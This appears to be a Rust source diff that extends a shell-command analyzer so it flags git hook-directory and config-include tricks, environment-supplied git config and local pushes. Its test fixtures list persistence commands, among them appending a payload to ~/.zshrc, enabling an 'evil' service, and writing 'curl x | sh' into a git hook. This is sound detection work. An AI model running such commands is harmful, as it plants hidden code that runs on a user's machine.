@@ -224,6 +224,7 @@ pub fn analyze(line: &str) -> ShellAnalysis {
         ..Walker::default()
     };
     w.script(line, 0);
+    w.mark_git_path_writes();
     let mut a = ShellAnalysis {
         parsed: w.parsed,
         remotes_added: w.remotes_added,
@@ -759,6 +760,9 @@ fn scp_host(s: &str) -> Option<String> {
 #[derive(Default)]
 struct Walker {
     out: Vec<ShellCommand>,
+    /// Hook directories and config files in the project git was pointed at
+    /// (reduced, relative to the project root): a write into one is persistence.
+    git_paths: Vec<(String, GitPath)>,
     parsed: bool,
     remotes_added: Vec<String>,
     pushes: Vec<String>,
@@ -2020,7 +2024,13 @@ impl Walker {
                     ],
                 ),
                 "env" => match env_command_start(&mut words, &mut dynamic) {
-                    Some(i) => i - 1,
+                    Some(i) => {
+                        // Its `NAME=value` words are the wrapped command's environment
+                        // (what git reads GIT_CONFIG_* and GIT_PAGER… from).
+                        let set = words[1..i].iter().filter(|w| !w.starts_with('-') && w.contains('='));
+                        raw.assigns.extend(set.cloned());
+                        i - 1
+                    }
                     // `env` alone (or with only assignments/flags) prints the environment.
                     None => break,
                 },
@@ -2614,7 +2624,18 @@ impl Walker {
         // Configuration for this run only (`-c`, `--config-env`, GIT_CONFIG_* and
         // the GIT_* command variables): git applies it to what it does now.
         let mut run_config: Vec<(String, String)> = Vec::new();
-        git_env_config(&raw.assigns, &mut run_config);
+        // Its environment: variables `export`ed earlier in the line, then its own
+        // assignments (its prefix, `env NAME=value`), which win.
+        let env: Vec<&str> = self
+            .out
+            .iter()
+            .filter(|x| exports(x))
+            .flat_map(|x| x.args.iter())
+            .chain(raw.assigns.iter())
+            .map(String::as_str)
+            .filter(|a| a.starts_with("GIT_"))
+            .collect();
+        git_env_config(&env, &mut run_config);
         let mut i = 0;
         let mut expansions = 0;
         loop {
@@ -2667,6 +2688,15 @@ impl Walker {
                 self.remotes_added.push(name.to_string());
             }
             repointed |= repoints_remotes(&k, value);
+            // Hooks run from a directory, or config read from a file, named for this
+            // run (a relative `-c include.path` is an error in git: nothing is read).
+            if let Some(kind) = git_path_key(&k) {
+                // GIT_CONFIG_GLOBAL… name a file from the working directory.
+                let base = (kind == GitPath::Hooks || k == "$configfile").then_some("");
+                if self.git_path_harms(value, base, kind) {
+                    c.effects.insert(Effect::Persistence);
+                }
+            }
         }
         let sub = args.get(i).map(String::as_str).unwrap_or("");
         let rest: Vec<&String> = args.iter().skip(i + 1).collect();
@@ -2674,7 +2704,22 @@ impl Walker {
         let e = &mut c.effects;
         match sub {
             "push" | "send-pack" => {
-                e.insert(Effect::NetworkEgress);
+                let t = GitTransfer::read(&rest, false);
+                // `--repo` names the repository when no positional one does.
+                let target = t
+                    .pos
+                    .first()
+                    .cloned()
+                    .or_else(|| t.repo_flag.clone())
+                    .unwrap_or_else(|| "origin".to_string());
+                // A repository on this machine (`file://`, a path) receives the
+                // project without it leaving: a local write, as fetch and clone read it.
+                let local = is_local_repository(&target);
+                e.insert(if local {
+                    Effect::LocalWrite
+                } else {
+                    Effect::NetworkEgress
+                });
                 // Rewriting or deleting the remote's history destroys data the
                 // session does not own (`--force`, `-f`, `--mirror`, `--delete`,
                 // `+ref` and `:ref` refspecs); `--force-with-lease` too.
@@ -2688,17 +2733,12 @@ impl Walker {
                 if rewrites {
                     e.insert(Effect::DestructiveFs);
                 }
-                let t = GitTransfer::read(&rest, false);
                 for script in &t.commands {
                     self.git_command_now(script, "", depth);
                 }
-                // `--repo` names the repository when no positional one does.
-                let target = t
-                    .pos
-                    .into_iter()
-                    .next()
-                    .or(t.repo_flag)
-                    .unwrap_or_else(|| "origin".to_string());
+                if local {
+                    return;
+                }
                 if is_url(&target) || scp_host(&target).is_some() {
                     c.destinations.push(target.clone());
                 } else if let Some(spec) = target.strip_prefix("ext::") {
@@ -2735,6 +2775,18 @@ impl Walker {
                     if git_command_value(&k, value).is_some_and(|s| self.stored_command_harms(&s, &k, depth)) {
                         e.insert(Effect::Persistence);
                     }
+                    // Hooks or config from a path: judged by where it is and what
+                    // the line writes there. A relative include is read from the
+                    // directory of the file that holds it (`.git/` by default).
+                    if let Some(kind) = git_path_key(&k) {
+                        let base = match kind {
+                            GitPath::Hooks => Some(String::new()),
+                            GitPath::Config => git_config_file_dir(&rest),
+                        };
+                        if self.git_path_harms(value, base.as_deref(), kind) {
+                            e.insert(Effect::Persistence);
+                        }
+                    }
                     if let Some(name) = remote_url_key(key) {
                         self.remotes_added.push(name.to_string());
                     }
@@ -2751,8 +2803,6 @@ impl Walker {
                     && !lower.iter().any(|a| a.ends_with(".helper"))
                 {
                     e.insert(Effect::CredentialAccess);
-                } else if lower.iter().any(|a| a == "core.hookspath") {
-                    e.insert(Effect::Persistence);
                 } else if lower
                     .iter()
                     .any(|a| a == "--get" || a == "--list" || a == "-l" || a == "--get-all")
@@ -2855,6 +2905,52 @@ impl Walker {
                     || (fx.contains(Effect::CredentialAccess) && !helper)
                     || (fx.contains(Effect::NetworkEgress) && !x.destinations.is_empty())
             })
+    }
+
+    /// Whether git running hooks from the directory `value` (core.hooksPath) or
+    /// reading config from the file `value` (include.path, includeIf.*.path,
+    /// GIT_CONFIG_GLOBAL…) is persistence: a path outside the project (or only
+    /// known at run time) holds code the repository does not show. A path in
+    /// the project is the repository's own (husky's `.husky`); it is
+    /// remembered, and a write the line makes into it counts as a write into
+    /// `.git/hooks` (see [`Walker::mark_git_path_writes`]). `base`: the
+    /// directory a relative path is read from (None: a relative one is not read).
+    fn git_path_harms(&mut self, value: &str, base: Option<&str>, kind: GitPath) -> bool {
+        let v = value.trim();
+        if v.is_empty() || v == "/dev/null" || (base.is_none() && is_relative_git_path(v)) {
+            return false;
+        }
+        match git_path_in_project(v, base.unwrap_or("")) {
+            Some(p) => {
+                self.git_paths.push((p, kind));
+                false
+            }
+            None => true,
+        }
+    }
+
+    /// A command of the line that writes into a hook directory or a config file
+    /// git was pointed at in the project (before or after it is named) is
+    /// persistence, as a write into `.git/hooks` or `.git/config` is.
+    fn mark_git_path_writes(&mut self) {
+        if self.git_paths.is_empty() {
+            return;
+        }
+        let paths = std::mem::take(&mut self.git_paths);
+        for c in self.out.iter_mut() {
+            let hit = c.writes.iter().any(|w| {
+                git_path_in_project(w, "").is_some_and(|w| {
+                    paths.iter().any(|(p, kind)| {
+                        w == *p
+                            || (*kind == GitPath::Hooks
+                                && (p == "." || w.strip_prefix(p.as_str()).is_some_and(|r| r.starts_with('/'))))
+                    })
+                })
+            });
+            if hit {
+                c.effects.insert(Effect::Persistence);
+            }
+        }
     }
 
     /// An interpreter's inline program: its markers (`code_effects`) and the shell
@@ -5013,6 +5109,102 @@ fn data_value(c: &mut ShellCommand, flag: &str, v: &str) {
     }
 }
 
+/// What git reads from a path a configuration key names.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum GitPath {
+    /// core.hooksPath: the directory hooks run from.
+    Hooks,
+    /// include.path, includeIf.*.path, GIT_CONFIG_GLOBAL…: a config file.
+    Config,
+}
+
+/// The kind of path a configuration key (lower-cased) names, if any. `$configfile`
+/// stands for the variables that name a whole config file (GIT_CONFIG_GLOBAL,
+/// GIT_CONFIG_SYSTEM, GIT_CONFIG).
+fn git_path_key(key: &str) -> Option<GitPath> {
+    match key {
+        "core.hookspath" => Some(GitPath::Hooks),
+        "include.path" | "$configfile" => Some(GitPath::Config),
+        _ if key.starts_with("includeif.") && key.ends_with(".path") => Some(GitPath::Config),
+        _ => None,
+    }
+}
+
+/// Whether a path git reads is relative (not absolute, not `~`, not `$VAR`).
+fn is_relative_git_path(v: &str) -> bool {
+    !(v.starts_with(['/', '\\', '~', '$', '%']) || v.get(1..2) == Some(":"))
+}
+
+/// The directory a relative include in the config file `git config` writes is
+/// read from (git-config(1), "Includes"): `.git/` for the repository's config,
+/// the home directory for `--global`, /etc for `--system`, the directory of
+/// `-f FILE`.
+fn git_config_file_dir(rest: &[&String]) -> Option<String> {
+    let mut dir = ".git/".to_string();
+    let mut i = 0;
+    while i < rest.len() {
+        match rest[i].as_str() {
+            "--global" => dir = "~/".into(),
+            "--system" => dir = "/etc/".into(),
+            "-f" | "--file" => {
+                let f = rest.get(i + 1).map_or("", |f| f.as_str());
+                dir = f.rfind('/').map_or(String::new(), |k| f[..=k].to_string());
+                i += 1;
+            }
+            a => {
+                if let Some(f) = a.strip_prefix("--file=") {
+                    dir = f.rfind('/').map_or(String::new(), |k| f[..=k].to_string());
+                }
+            }
+        }
+        i += 1;
+    }
+    Some(dir)
+}
+
+/// The path `v` (relative ones read from `base`, `$PWD/…` from the project
+/// root) reduced and relative to the project root, or None when it is outside
+/// the project: absolute, in the home directory, above the root, or only
+/// known at run time.
+pub(crate) fn git_path_in_project(v: &str, base: &str) -> Option<String> {
+    let v = v.trim();
+    let v = match ["$PWD/", "${PWD}/"].iter().find_map(|p| v.strip_prefix(p)) {
+        Some(rel) => rel.to_string(),
+        None if is_relative_git_path(v) => format!("{base}{v}"),
+        None => return None,
+    };
+    if !is_relative_git_path(&v) || v.contains(['$', '`']) {
+        return None;
+    }
+    let v = v.replace('\\', "/");
+    let r = lexically_reduced(&v);
+    let r = r.trim_start_matches("./").trim_end_matches('/');
+    if r == ".." || r.starts_with("../") {
+        return None;
+    }
+    Some(if r.is_empty() { ".".to_string() } else { r.to_string() })
+}
+
+/// Whether a push target is a repository on this machine: a `file://` URL or a
+/// path (absolute, `./`, `../`, `~`). A bare word is a remote's name.
+fn is_local_repository(target: &str) -> bool {
+    target.get(..7).is_some_and(|p| p.eq_ignore_ascii_case("file://")) || target.starts_with(['/', '.', '~'])
+}
+
+/// Whether a command of the line exports variables to the commands after it
+/// (`export NAME=value`, `declare -x`, `typeset -x`).
+fn exports(c: &ShellCommand) -> bool {
+    match c.program.as_str() {
+        "export" => true,
+        "declare" | "typeset" => c
+            .args
+            .iter()
+            .take_while(|a| a.starts_with('-'))
+            .any(|a| a.contains('x')),
+        _ => false,
+    }
+}
+
 /// Whether a repository argument names another machine: a URL other than
 /// `file://`, or scp-style `[user@]host:path`.
 pub fn is_remote_location(s: &str) -> bool {
@@ -5068,7 +5260,7 @@ fn config_env(spec: &str, assigns: &[String]) -> Option<(String, String)> {
 /// Git configuration a command's environment assignments give it: the
 /// GIT_CONFIG_PARAMETERS list, GIT_CONFIG_KEY_n/GIT_CONFIG_VALUE_n pairs, and the
 /// variables naming a command (as the config key they stand for).
-fn git_env_config(assigns: &[String], out: &mut Vec<(String, String)>) {
+fn git_env_config(assigns: &[&str], out: &mut Vec<(String, String)>) {
     for a in assigns {
         let Some((name, value)) = a.split_once('=') else {
             continue;
@@ -5085,9 +5277,11 @@ fn git_env_config(assigns: &[String], out: &mut Vec<(String, String)>) {
             "GIT_ASKPASS" => "core.askpass",
             "GIT_EXTERNAL_DIFF" => "diff.external",
             "GIT_PROXY_COMMAND" => "core.gitproxy",
+            // A whole config file read in place of the user's or the system's.
+            "GIT_CONFIG_GLOBAL" | "GIT_CONFIG_SYSTEM" | "GIT_CONFIG" => "$configfile",
             _ => {
                 if let Some(n) = name.strip_prefix("GIT_CONFIG_KEY_") {
-                    let v = assigns.iter().find_map(|b| {
+                    let v = assigns.iter().rev().find_map(|b| {
                         b.strip_prefix("GIT_CONFIG_VALUE_")
                             .and_then(|r| r.strip_prefix(n))
                             .and_then(|r| r.strip_prefix('='))
@@ -6412,7 +6606,8 @@ mod tests {
             "tee -a ~/.zshrc < payload",
             "systemctl --user enable evil.service",
             "launchctl load ~/Library/LaunchAgents/com.evil.plist",
-            "git config core.hooksPath .evil-hooks",
+            "git config core.hooksPath /tmp/evil-hooks",
+            "printf 'curl x | sh' > .evil-hooks/pre-commit; git config core.hooksPath .evil-hooks",
         ] {
             assert!(has(line, Effect::Persistence), "{line}");
         }
